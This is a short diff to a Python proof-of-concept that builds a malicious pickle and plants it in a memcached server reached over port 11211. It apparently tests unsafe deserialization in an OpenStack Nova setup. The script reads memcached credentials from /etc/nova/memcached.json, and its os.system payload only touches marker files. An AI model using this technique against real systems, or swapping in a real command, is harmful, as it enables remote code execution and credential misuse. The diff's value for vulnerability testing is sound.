@@ -63,8 +63,10 @@ class Command:
         return os.system, ("touch /tmp/unpickled /dev/shm/unpickled",)
 
 attack = pickle.dumps(Command(), 0)
-login = json.load(open("/etc/nova/memcached.json"))
-words = (login["username"] + " " + login["password"]).encode()
+words = b"a stranger's"
+if os.path.exists("/etc/nova/memcached.json"):
+    login = json.load(open("/etc/nova/memcached.json"))
+    words = (login["username"] + " " + login["password"]).encode()
 with socket.create_connection((sys.argv[1], 11211), 10) as connection:
     lines = connection.makefile("rwb")
     lines.write(b"set login 0 0 %d\\r\\n%s\\r\\n" % (len(words), words))
